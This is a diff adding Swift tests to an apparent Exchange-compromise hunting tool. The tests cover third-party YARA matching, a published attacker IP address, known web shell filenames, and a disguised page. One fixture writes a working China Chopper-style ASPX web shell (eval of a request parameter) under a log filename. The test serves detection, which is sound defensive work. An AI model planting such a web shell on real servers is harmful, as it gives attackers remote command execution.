@@ -235,3 +235,46 @@ import Reports
         #expect(CSVField.escape("a,b") == "\"a,b\"")
     }
 }
+
+@Suite struct YaraAndIndicatorHuntTests {
+    @Test func thirdPartyYaraMatchesKeepTheirAuthorAndOffsets() async throws {
+        let sig = repoRoot.deletingLastPathComponent().appendingPathComponent("shared/data/Neo23x0__signature-base/yara/apt_hafnium.yar")
+        guard FileManager.default.fileExists(atPath: sig.path) else { print("skipped: ../shared absent"); return }
+        let config = HuntConfiguration(evidence: samples.appendingPathComponent("compromised-server"))
+        var sources = Detectors.Sources()
+        sources.yara = [sig]
+        let r = try await Hunter(configuration: config, detectors: try Detectors.load(sources)).run()
+        let third = r.findings.filter { $0.rule.source.hasSuffix("apt_hafnium.yar") }
+        #expect(!third.isEmpty)
+        #expect(third.allSatisfy { $0.rule.author?.isEmpty == false })
+        #expect(third.allSatisfy { ($0.evidence.matches ?? []).isEmpty == false && $0.evidence.sha256 != nil })
+    }
+
+    @Test func publishedAddressesAndNamesMatchButExchangePagesDoNot() async throws {
+        let root = try tempDir()
+        var attack = Exchange2013.ordinary("2021-03-03T07:41:02.555Z", 9)
+        attack["ClientIPAddress"] = "167.99.168.251"   // CISA AA21-062A / Volexity
+        try put(root, "Logging/HttpProxy/Owa/a.log", Exchange2013.log([Exchange2013.ordinary("2020-12-01T00:00:00.000Z", 1), attack]))
+        // MSTIC lists ecp\auth\TimeoutLogout.aspx: Exchange's own page must not become a finding.
+        try put(root, "C/Program Files/Microsoft/Exchange Server/V15/FrontEnd/HttpProxy/ecp/auth/TimeoutLogout.aspx",
+                "<%@ Page Language=\"C#\" Inherits=\"Microsoft.Exchange.HttpProxy.TimeoutLogout\" %>")
+        // A published shell name, installed under another root.
+        try put(root, "E/Exchange/FrontEnd/HttpProxy/owa/auth/OutlookZH.aspx", "<html></html>")
+        let r = try await hunt(root)
+        #expect(r.findings(RuleID.probe).isEmpty)
+        let ip = try #require(r.findings("exhunt-ioc-ip").first)
+        #expect(ip.fields["ClientIpAddress"] == "167.99.168.251")
+        #expect(r.findings("exhunt-ioc-filepath").count == 1)
+        #expect(r.findings("exhunt-ioc-filepath").first?.evidence.path.hasSuffix("OutlookZH.aspx") == true)
+        #expect(r.verdict == .compromised)
+    }
+
+    @Test func pageHiddenUnderALogNameIsScanned() async throws {
+        let root = try tempDir()
+        try put(root, "V15/Logging/HttpProxy/Owa/HttpProxy_2021030100-1.LOG",
+                "<%@ Page Language=\"Jscript\"%><script runat=\"server\">eval(Request.Item[\"z\"],\"unsafe\");</script>")
+        let r = try await hunt(root)
+        #expect(r.findings(RuleID.chopper).count == 1)
+        #expect(r.problems.contains { $0.code == "disguised-file" })
+    }
+}
